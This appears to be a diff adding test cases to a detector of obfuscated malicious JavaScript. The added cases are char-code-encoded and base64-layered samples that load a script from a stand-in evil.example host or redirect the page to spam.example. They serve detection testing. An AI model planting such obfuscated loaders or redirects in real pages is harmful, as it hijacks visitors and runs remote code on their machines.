@@ -67,6 +67,14 @@ def packed(text: str) -> str:
         (f"var s=document['{hexed('createElement')}']('{hexed('script')}');s['{hexed('src')}']="
          f"'{hexed('https://evil.example/w.js')}';document['{hexed('head')}']"
          f"['{hexed('appendChild')}'](s);", "https://evil.example/w.js", RequestType.SCRIPT),
+        # the address's char codes held in a name the location is then set to (a redirect
+        # kit's form: `var l=String.fromCharCode(…);window.location.replace(l)`), or a src
+        (f"window.stop();var l=String.fromCharCode({codes('https://spam.example/go.php?s=4')});"
+         "window.location.replace(l);document.location.href=l;",
+         "https://spam.example/go.php?s=4", RequestType.DOCUMENT),
+        (f"var u=String.fromCharCode({codes('https://evil.example/n.js')});var s=document."
+         "createElement('script');s.src=u;document.head.appendChild(s);",
+         "https://evil.example/n.js", RequestType.SCRIPT),
         # two layers: base64 inside char codes
         (f"eval(String.fromCharCode({codes(f'eval(atob({chr(39)}{b64(LOADER)}{chr(39)}))')}))",
          "https://evil.example/x.js", RequestType.SCRIPT),
